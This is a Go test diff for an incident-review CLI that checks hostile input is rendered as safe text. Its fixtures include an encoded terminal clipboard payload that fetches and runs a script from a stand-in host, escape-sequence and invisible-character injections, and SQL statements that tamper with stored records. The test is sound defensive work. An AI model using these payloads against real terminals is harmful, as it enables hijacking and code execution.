@@ -14,6 +14,7 @@ import (
 
 	"github.com/signoff/signoff/db"
 	"github.com/signoff/signoff/model"
+	"github.com/signoff/signoff/tui/safetext"
 )
 
 // hostile is what an attacker writes into every free-text field: each kind
@@ -30,6 +31,17 @@ const hostile = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07" + // OSC 52: set th
 	"\x7f\x08\r\x00\x07" + // DEL, backspace, CR, NUL, BEL
 	"\x1b]0;unterminated " // an OSC that never ends
 
+// Ids refuse controls, spaces and format characters, but not every
+// character that shows as nothing: these are valid ids that safetext still
+// marks, so an id printed without it reads as another.
+const (
+	hostileWho      = "al\u3164ice" // Hangul filler
+	hostileStep     = "S1\u115f"    // Hangul choseong filler
+	hostileEvidence = "EV-1\u034f"  // combining grapheme joiner
+	hostileChange   = "ST-1\uffa0"  // halfwidth Hangul filler
+	hostileStepRef  = "INC-666/" + hostileStep
+)
+
 // terminalSafe finds the first thing in out that a terminal would act on
 // or that hides text: anything but printable characters, newlines and tabs.
 func terminalSafe(out string) error {
@@ -43,6 +55,8 @@ func terminalSafe(out string) error {
 			return fmt.Errorf("control character %U at byte %d: %q", r, i, around(out, i))
 		case unicode.Is(unicode.Cf, r) || unicode.Is(unicode.Zl, r) || unicode.Is(unicode.Zp, r) || (r >= 0xE0000 && r <= 0xE007F):
 			return fmt.Errorf("invisible character %U at byte %d: %q", r, i, around(out, i))
+		case r != utf8.RuneError && safetext.Hidden(r):
+			return fmt.Errorf("%U, which safetext marks, at byte %d: %q", r, i, around(out, i))
 		}
 	}
 	return nil
@@ -61,35 +75,35 @@ func hostileDoc() model.Document {
 	return model.Document{
 		Format: model.FormatV1,
 		Incident: model.Incident{ID: "INC-666", Title: "title " + h, Severity: model.Sev1, Status: model.StatusOpen,
-			OpenedAt: t0, Commander: "alice", Summary: "summary " + h},
-		People: []model.Person{{ID: "alice", Name: "Alice " + h, Role: "role " + h, Team: "team " + h, Authority: model.AuthorityHigh}},
-		Agents: []model.Agent{{ID: "agent-x", Name: "agent " + h, Model: "model " + h, Version: "v " + h, Role: model.RoleRemediation, Operator: "alice"}},
-		Assets: []model.Asset{{ID: "web-1", Kind: model.AssetKind("host"), Privileged: true, Owner: "alice", Summary: "asset " + h},
+			OpenedAt: t0, Commander: hostileWho, Summary: "summary " + h},
+		People: []model.Person{{ID: hostileWho, Name: "Alice " + h, Role: "role " + h, Team: "team " + h, Authority: model.AuthorityHigh}},
+		Agents: []model.Agent{{ID: "agent-x", Name: "agent " + h, Model: "model " + h, Version: "v " + h, Role: model.RoleRemediation, Operator: hostileWho}},
+		Assets: []model.Asset{{ID: "web-1", Kind: model.AssetKind("host"), Privileged: true, Owner: hostileWho, Summary: "asset " + h},
 			{ID: "web-2", Kind: model.AssetKind("host"), Summary: "asset " + h}},
-		Evidence: []model.Evidence{{ID: "EV-1", Kind: "log " + h, Asset: "web-1", CollectedAt: t0.Add(time.Minute),
+		Evidence: []model.Evidence{{ID: hostileEvidence, Kind: "log " + h, Asset: "web-1", CollectedAt: t0.Add(time.Minute),
 			CollectedBy: "collector " + h, URI: "https://x/" + h, Summary: "evidence " + h}},
 		Events: []model.Event{
-			{ID: "E1", At: t0, Kind: model.KindAlert, Source: "source " + h, Summary: "alert " + h, Detail: "detail " + h, Evidence: []string{"EV-1"}},
-			{ID: "S1", At: t0.Add(2 * time.Minute), Kind: model.KindSuggestion, Agent: "agent-x", Action: action, Confidence: &conf,
+			{ID: "E1", At: t0, Kind: model.KindAlert, Source: "source " + h, Summary: "alert " + h, Detail: "detail " + h, Evidence: []string{hostileEvidence}},
+			{ID: hostileStep, At: t0.Add(2 * time.Minute), Kind: model.KindSuggestion, Agent: "agent-x", Action: action, Confidence: &conf,
 				ConfidenceCue: "cue " + h, Rank: 1, Rationale: "because " + h, RawOutput: "raw " + h, Summary: "suggestion " + h,
-				Alternatives: []model.Action{{Type: "alt " + h, Target: "web-1", Detail: h}}, Evidence: []string{"EV-1"}},
-			{ID: "D1", At: t0.Add(3 * time.Minute), Kind: model.KindDecision, Suggestion: "S1", Owner: "alice",
+				Alternatives: []model.Action{{Type: "alt " + h, Target: "web-1", Detail: h}}, Evidence: []string{hostileEvidence}},
+			{ID: "D1", At: t0.Add(3 * time.Minute), Kind: model.KindDecision, Suggestion: hostileStep, Owner: hostileWho,
 				Outcome: model.OutcomeModified, Action: &model.Action{Type: action.Type, Target: "web-1", Detail: "changed " + h},
-				Rationale: "decided " + h, EvidenceReviewed: []string{"EV-1"}, Summary: "decision " + h,
+				Rationale: "decided " + h, EvidenceReviewed: []string{hostileEvidence}, Summary: "decision " + h,
 				AlternativesRejected: []model.RejectedAlternative{{Action: model.Action{Type: "rm " + h}, Reason: "reason " + h}},
-				Approvals:            []model.Approval{{By: "alice", At: t0.Add(3 * time.Minute)}}},
+				Approvals:            []model.Approval{{By: hostileWho, At: t0.Add(3 * time.Minute)}}},
 			{ID: "X1", At: t0.Add(4 * time.Minute), Kind: model.KindExecution, Decision: "D1", Actor: "runner " + h,
 				Result: "succeeded", Summary: "ran " + h, Detail: h},
-			{ID: "N1", At: t0.Add(5 * time.Minute), Kind: model.KindNote, Actor: "alice", Summary: "note " + h},
+			{ID: "N1", At: t0.Add(5 * time.Minute), Kind: model.KindNote, Actor: hostileWho, Summary: "note " + h},
 			{ID: "S2", At: t0.Add(6 * time.Minute), Kind: model.KindSuggestion, Agent: "agent-x", Confidence: &conf,
 				Action:        &model.Action{Type: action.Type, Target: "web-2", Detail: action.Detail},
 				ConfidenceCue: "cue " + h, Rationale: "again " + h},
 			{ID: "S3", At: t0.Add(7 * time.Minute), Kind: model.KindSuggestion, Agent: "agent-x",
 				Action: &model.Action{Type: "still pending " + h, Target: "web-2", Detail: h}, Rationale: "left " + h},
 		},
-		Reviews: []model.Review{{Subject: "S1", Reviewer: "alice", At: t0.Add(time.Hour), Verdict: model.VerdictModified,
+		Reviews: []model.Review{{Subject: hostileStep, Reviewer: hostileWho, At: t0.Add(time.Hour), Verdict: model.VerdictModified,
 			OutcomeChanged: "yes", AICorrect: "partial", Note: "note " + h}},
-		StatusChanges: []model.StatusChange{{ID: "ST-1", Status: model.StatusContained, By: "alice", At: t0.Add(8 * time.Minute),
+		StatusChanges: []model.StatusChange{{ID: hostileChange, Status: model.StatusContained, By: hostileWho, At: t0.Add(8 * time.Minute),
 			Rationale: "imported " + h}},
 	}
 }
@@ -126,11 +140,11 @@ func TestNoCommandLetsHostileTextReachTheTerminal(t *testing.T) {
 	}
 	writes := []step{
 		{[]string{"import", file}, []int{0}},
-		{[]string{"--as", "alice", "approve", "INC-666/S2", "--rationale", "ok " + hostile, "--action-detail", "mine " + hostile}, []int{0}},
-		{[]string{"--as", "alice", "annotate", "INC-666/S1", "--verdict", "ignored", "--note", "again " + hostile}, []int{0}},
-		{[]string{"--as", "alice", "status", "INC-666", "open", "--rationale", "reopened " + hostile}, []int{0}},
-		{[]string{"--as", "alice", "handoff", "INC-666", "--note", "watch " + hostile}, []int{0}},
-		{[]string{"--as", "alice", "claim", "INC-666/S3"}, []int{0}},
+		{[]string{"--as", hostileWho, "approve", "INC-666/S2", "--rationale", "ok " + hostile, "--action-detail", "mine " + hostile}, []int{0}},
+		{[]string{"--as", hostileWho, "annotate", hostileStepRef, "--verdict", "ignored", "--note", "again " + hostile}, []int{0}},
+		{[]string{"--as", hostileWho, "status", "INC-666", "open", "--rationale", "reopened " + hostile}, []int{0}},
+		{[]string{"--as", hostileWho, "handoff", "INC-666", "--note", "watch " + hostile}, []int{0}},
+		{[]string{"--as", hostileWho, "claim", "INC-666/S3"}, []int{0}},
 	}
 	for _, s := range writes {
 		r := signoff(t, path, "", s.args...)
@@ -161,9 +175,9 @@ func TestNoCommandLetsHostileTextReachTheTerminal(t *testing.T) {
 		{[]string{"status", "INC-666"}, []int{0}},
 		{[]string{"status", "INC-666", "--json"}, []int{0}},
 		{[]string{"handoff", "INC-666"}, []int{0}},
-		{[]string{"--as", "alice", "claim", "INC-666/S3", "--release"}, []int{0}},
-		{[]string{"--as", "alice", "status", "INC-666", "closed", "--rationale", hostile}, []int{1, 2}},
-		{[]string{"--as", "alice", "handoff", "INC-666", "--note", "bad \xff " + hostile}, []int{2}},
+		{[]string{"--as", hostileWho, "claim", "INC-666/S3", "--release"}, []int{0}},
+		{[]string{"--as", hostileWho, "status", "INC-666", "closed", "--rationale", hostile}, []int{1, 2}},
+		{[]string{"--as", hostileWho, "handoff", "INC-666", "--note", "bad \xff " + hostile}, []int{2}},
 		{[]string{"verify", "--signers", file}, []int{0, 2}},
 
 		{[]string{"findings", "INC-666"}, []int{0, 1}},
@@ -177,7 +191,7 @@ func TestNoCommandLetsHostileTextReachTheTerminal(t *testing.T) {
 		{[]string{"checkpoint"}, []int{0}},
 		{[]string{"train", "--results"}, []int{0}},
 		{[]string{"train", "--results", "INC-666", "--json"}, []int{0}},
-		{[]string{"--as", "alice", "approve", "INC-666/S2", "--rationale", hostile}, []int{2}},
+		{[]string{"--as", hostileWho, "approve", "INC-666/S2", "--rationale", hostile}, []int{2}},
 		{[]string{"review", "INC-666\x1b]0;x\x07"}, []int{2}},
 		{[]string{"findings", "INC-\u202e666"}, []int{2}},
 	}
@@ -235,15 +249,94 @@ func trainHostile(t *testing.T, path string) {
 	}
 	defer s.Close()
 	at := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
-	run, err := s.StartTrainingRun(ctx, model.TrainingRun{Trainee: "alice", Incident: "INC-666", StartedAt: at, Hindsight: true})
+	run, err := s.StartTrainingRun(ctx, model.TrainingRun{Trainee: hostileWho, Incident: "INC-666", StartedAt: at, Hindsight: true})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if err := s.RecordTrainingChoice(ctx, run.ID, model.TrainingChoice{Subject: "S1", Outcome: model.OutcomeModified,
+	if err := s.RecordTrainingChoice(ctx, run.ID, model.TrainingChoice{Subject: hostileStep, Outcome: model.OutcomeModified,
 		Action: &model.Action{Type: "x " + hostile, Detail: hostile}, Rationale: "trainee " + hostile, At: at}); err != nil {
 		t.Fatal(err)
 	}
 	if err := s.EndTrainingRun(ctx, run.ID, at.Add(time.Minute), true); err != nil {
 		t.Fatal(err)
+	}
+}
+
+// TestATamperedRecordReachesTheTerminalOnlyAsText changes the hostile
+// record as someone with the database file could: values the import
+// checks against a list (statuses, outcomes, verdicts, kinds) and the
+// derived tables' copies of ids, names and months get escape sequences.
+// Every reader still says what it read, as safe text.
+func TestATamperedRecordReachesTheTerminalOnlyAsText(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "signoff.db")
+	data, err := json.Marshal(hostileDoc())
+	if err != nil {
+		t.Fatal(err)
+	}
+	file := filepath.Join(dir, "incident.json")
+	if err := os.WriteFile(file, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, args := range [][]string{{"import", file}, {"--as", hostileWho, "annotate", "INC-666/S2", "--verdict", "followed"},
+		{"--as", hostileWho, "handoff", "INC-666", "--note", "n"}, {"--as", hostileWho, "claim", "INC-666/S3"}} {
+		if r := signoff(t, path, "", args...); r.code != 0 {
+			t.Fatalf("%q: exit %d: %s", args, r.code, r.stderr)
+		}
+	}
+	trainHostile(t, path)
+	const inJSON = `\u001b]0;owned\u0007\u202e` // as the payload's JSON spells it
+	const inSQL = `char(27)||']0;owned'||char(7)`
+	var stmts []string
+	for _, kv := range []string{"status:open", "status:contained", "severity:sev1", "outcome:modified", "verdict:modified",
+		"verdict:followed", "authority:high", "role:remediation", "result:succeeded", "kind:alert", "kind:suggestion",
+		"kind:host", "outcome_changed:yes", "ai_correct:partial"} {
+		k, v, _ := strings.Cut(kv, ":")
+		stmts = append(stmts, fmt.Sprintf(`UPDATE chain SET payload = replace(payload, '"%s":"%s"', '"%s":"%s%s"')`, k, v, k, v, inJSON))
+	}
+	for table, columns := range map[string][]string{
+		"events":           {"kind", "actor", "summary", "action", "target"},
+		"pending_items":    {"agent", "action", "target", "detail"},
+		"suggestion_facts": {"month", "agent", "action", "state"},
+		"suggestion_cells": {"agent", "action", "month"},
+		"queue_claims":     {"person", "suggestion"},
+		"handoff_notes":    {"person"},
+		"status_changes":   {"id", "status", "person"},
+		"reviews":          {"verdict", "reviewer"},
+		"training_runs":    {"trainee", "authority"},
+		"training_choices": {"outcome", "action", "rationale"},
+	} {
+		var set []string
+		for _, c := range columns {
+			set = append(set, c+" = "+c+"||"+inSQL)
+		}
+		stmts = append(stmts, "UPDATE "+table+" SET "+strings.Join(set, ", "))
+	}
+	tamperDB(t, path, stmts...)
+	reads := [][]string{
+		{"incidents"}, {"incidents", "--json"}, {"pending"}, {"pending", "--json"}, {"status", "INC-666"},
+		{"status", "INC-666", "--json"}, {"export", "INC-666"}, {"findings", "INC-666"}, {"findings", "INC-666", "--json"},
+		{"report", "INC-666"}, {"report", "INC-666", "--format", "json"}, {"handoff", "INC-666"}, {"decisions"},
+		{"verify", "--all"}, {"train", "--results"}, {"train", "--results", "INC-666", "--json"},
+		{"--as", hostileWho, "claim", "INC-666/S3", "--release"},
+	}
+	for _, by := range []string{"agent", "action", "month"} {
+		for _, format := range []string{"table", "json", "csv"} {
+			reads = append(reads, []string{"metrics", "--by", by, "--format", format})
+		}
+	}
+	for _, args := range reads {
+		t.Run(strings.Join(args, " "), func(t *testing.T) {
+			r := signoff(t, path, "", args...)
+			for name, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
+				if err := terminalSafe(out); err != nil {
+					t.Errorf("%s: %v", name, err)
+				}
+			}
+		})
+	}
+	// The tampered status is shown, made safe, not left out.
+	if r := signoff(t, path, "", "status", "INC-666"); !strings.Contains(r.stdout, "imported as open␛]0;owned␇") {
+		t.Errorf("status does not show the status as recorded: %q", r.stdout)
 	}
 }
